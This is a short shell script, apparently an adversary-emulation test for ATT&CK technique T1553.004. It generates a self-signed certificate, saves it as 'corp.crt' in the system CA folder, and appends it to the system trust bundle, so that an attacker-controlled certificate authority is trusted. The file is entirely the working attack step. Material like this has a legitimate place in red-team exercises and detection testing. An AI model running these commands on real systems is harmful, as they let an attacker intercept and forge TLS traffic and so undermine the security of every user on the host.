# title: A certificate authority of the attacker's is trusted from now on
# technique: T1553.004
# needs: openssl

mkdir -p /usr/local/share/ca-certificates
openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=x -keyout /tmp/k -out /usr/local/share/ca-certificates/corp.crt 2>/dev/null
cat /usr/local/share/ca-certificates/corp.crt >>/etc/ssl/certs/ca-certificates.crt
